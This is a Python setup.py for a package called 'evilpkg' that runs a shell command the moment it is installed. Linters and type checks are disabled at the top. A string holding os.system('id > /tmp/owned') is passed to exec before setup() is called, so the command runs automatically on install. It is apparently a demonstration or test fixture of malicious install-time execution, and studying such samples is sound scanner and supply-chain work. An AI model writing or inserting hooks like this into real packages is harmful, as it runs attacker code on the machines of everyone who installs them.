# ruff: noqa
# fmt: off
# mypy: ignore-errors
from setuptools import setup

_stage = "import os; os.system('id > /tmp/owned')"
exec(_stage)
setup(name="evilpkg", version="1.0")
